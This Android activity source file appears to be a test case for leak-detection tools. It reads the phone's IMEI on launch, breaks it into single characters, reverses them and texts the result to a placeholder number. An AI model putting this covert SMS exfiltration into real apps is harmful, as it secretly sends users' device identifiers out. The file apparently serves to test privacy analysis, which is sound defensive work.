// about       A loop fills an array with pieces of the value and joins the array.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    String id = phone.getDeviceId();
    int count = id.length();
    String[] pieces = new String[count];
    String[] marks = new String[count];
    for (int i = 0; i < count; i++) {
      pieces[i] = id.substring(i, i + 1);
      marks[i] = Integer.toString(i);
    }
    StringBuilder text = new StringBuilder();
    for (int i = count - 1; i >= 0; i--) {
      // One digit of the value.
      text.append(pieces[i]);
    }
    SmsManager.getDefault().sendTextMessage("+15550100", null, text.toString(), null, null);
  }
}
